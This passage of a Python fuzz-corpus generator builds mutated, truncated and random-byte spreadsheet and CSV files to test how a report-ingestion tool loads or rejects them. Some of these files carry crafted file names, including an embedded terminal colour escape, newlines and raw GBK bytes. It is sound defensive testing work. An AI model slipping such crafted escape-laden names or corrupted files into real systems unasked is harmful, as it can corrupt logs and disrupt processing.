        corpus.add("hostile-content", f"label_{n:02d}.csv", f"a row label {text!r} in a CSV", status,
                   table.csv_text().encode("utf-8"), rule=rule, table=table, compare_labels=False)
    for n, text in enumerate(HOSTILE_TEXTS):
        table = tables.next()
        # the sender cell is read to find the unit: a hostile one is an unknown unit, quoted in the report
        corpus.add("hostile-content", f"sender_{n:02d}.xlsx", f"a sender cell {text!r}", REJECTED,
                   fuzz.template(corpus.ref, text, table.day, table.rows),
                   notes="no unit is called that: any rule; the report quotes the cell")
    for n, text in enumerate(HOSTILE_TEXTS[::2]):
        table = tables.next()
        parts = members(tables.workbook(table))
        # the notes line under the table, a free text row nobody reads as figures
        notes = parts[STRINGS].replace("填表人：".encode(), _xml_text(text).encode() + "填表人：".encode(), 1)
        status, rule = (REJECTED, "control-character") if CONTROL_CHARACTER.search(text) else (LOADED, None)
        corpus.add("hostile-content", f"notes_{n:02d}.xlsx", f"the notes line under the table holds {text!r}",
                   status, rezip(tables.workbook(table), {STRINGS: notes}), rule=rule, table=table)


def _xml_text(text: str) -> str:
    """Text for an XML element: markup escaped, control characters as OOXML's _xHHHH_ escapes (as Excel writes)."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return "".join(f"_x{ord(c):04X}_" if ord(c) < 32 and c not in "\t\n\r" else c for c in escaped)


def hostile_names(corpus: Corpus, rng: random.Random, tables: Tables) -> None:
    """File names that carry markup, escapes, direction overrides, newlines, GBK bytes, 255 bytes: on a good
    workbook, a good CSV and a broken file each, so that each is printed for a load and for a rejection."""
    def land(name: str, n: int, naming: Callable[[str, str], dict]) -> None:
        """`naming(extension, tag)`: the inbox name (or its bytes) of each of the three files."""
        table = tables.next()
        corpus.add("hostile-names", f"name_{n:03d}_good.xlsx", f"a good workbook named {name!r}", LOADED,
                   tables.workbook(table), table=table, **naming(".xlsx", "a"))
        table = tables.next()
        corpus.add("hostile-names", f"name_{n:03d}_good.csv", f"a good CSV named {name!r}", LOADED,
                   table.csv_text().encode("utf-8"), table=table, **naming(".csv", "b"))
        corpus.add("hostile-names", f"name_{n:03d}_broken.xlsx", f"a broken file named {name!r}", REJECTED,
                   b"PK\x03\x04 cut short " + str(n).encode(), rule="unreadable-file", **naming(".xlsx", "c"))

    for n, name in enumerate(HOSTILE_NAMES):
        land(name, n, lambda ext, tag, name=name: {"inbox_name": f"{name}{tag}{ext}"})
    base = len(HOSTILE_NAMES)
    for k, char in enumerate("浈江区始兴"):  # 255 bytes: 83 three-byte characters, the tag and the extension
        land(f"{char} x 83", base + k, lambda ext, tag, c=char: {
            "inbox_name": (c * 83 + tag + ext).encode()[:255 - len(ext)].decode("utf-8", "ignore") + ext})
    # No unit's name in these: the sender comes from the table, and a name naming another unit would conflict.
    for k, name in enumerate(("寒冬送温暖_统计表", "统计表\n第二版", "报表\x1b[31m", "报表（更正）")):
        land(f"{name!r} in GBK bytes", base + 5 + k,
             lambda ext, tag, name=name: {"inbox_name_hex": (name + tag + ext).encode("gbk").hex()})


def legacy_xls(corpus: Corpus, rng: random.Random, tables: Tables) -> None:
    """The small .xls of make_fuzz with bytes changed, cut short, or its stream replaced by random bytes."""
    base = fuzz.small_xls({})
    if base is None:
        print("xlwt is not installed: the legacy .xls family is skipped", file=sys.stderr)
        return
    expected = Table("浈江区", "440204", dt.date(2023, 12, 20),
                     [FilledRow(f"镇{r}", {"走访慰问户数（户）": r}) for r in range(3, 8)])
    seen = set()
    for n in range(100):
        changes = {}
        while not changes or tuple(sorted(changes.items())) in seen:
            offsets = rng.sample(range(len(base)), rng.randint(1, 4))
            changes = {o: (base[o] ^ rng.randrange(1, 256)) for o in offsets}
        seen.add(tuple(sorted(changes.items())))
        corpus.add("legacy-xls", f"xls_flip_{n:03d}.xls", f"bytes changed: {changes}", EITHER,
                   fuzz.small_xls(changes), table=expected,
                   notes="every such file holds the same unit and day: one that loads supersedes the one before")
    for n in range(12):
        keep = rng.randrange(9, len(base) - 1) if n > 2 else (8, 512, len(base) - 1)[n]
        corpus.add("legacy-xls", f"xls_truncated_{n:02d}.xls", f"cut to {keep} of {len(base)} bytes", EITHER,
                   base[:keep], table=expected)
    for n in range(8):
        stream = bytes(rng.randrange(256) for _ in range(rng.randrange(600, 9000)))
        corpus.add("legacy-xls", f"xls_random_stream_{n}.xls", "a compound file whose Workbook stream is random "
                   "bytes", REJECTED, fuzz.compound_file({"Workbook": stream}))


FAMILIES: dict[str, Callable[[Corpus, random.Random, Tables], None]] = {
    "byte-flips": byte_flips, "truncations": truncations, "zip": zip_mutations, "xml": xml_mutations,
    "csv": csv_abuse, "hostile-content": hostile_content, "hostile-names": hostile_names, "legacy-xls": legacy_xls,
}


def corpus(families: list[str] | None = None) -> list[tuple[dict, bytes]]:
    """(manifest entry, bytes) for every file of the chosen families (default: all). Each family has its own seeded
    generator and its own campaign days, so that choosing families changes no file of the others."""
    ref = load_reference(SHIPPED_REFERENCE)
    made = Corpus(ref)
    for k, (name, build) in enumerate(FAMILIES.items()):
        if families and name not in families:
            continue
        rng = random.Random(f"{SEED}-{name}")
        tables = Tables(ref, rng)
        tables.skip(k * 115)  # 8 families x 115 = the 920 (unit, day) slots of the campaign: few loads share one
        build(made, rng, tables)
    return made.files


def write(out: Path, families: list[str] | None = None) -> list[dict]:
    out.mkdir(parents=True, exist_ok=True)
    entries = []
    for entry, content in corpus(families):
        (out / entry["file"]).write_bytes(content)
        entries.append(entry)
    (out / "manifest.json").write_text(json.dumps(entries, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    return entries


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", nargs="?", type=Path, help="folder to write to (default: a new temporary folder)")
    parser.add_argument("--families", help=f"comma-separated, of: {', '.join(FAMILIES)}")
    args = parser.parse_args(argv)
    out = args.out or Path(tempfile.mkdtemp(prefix="warmline-hostile-"))
    entries = write(out, args.families.split(",") if args.families else None)
    print(f"wrote {len(entries)} hostile files and manifest.json to {out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
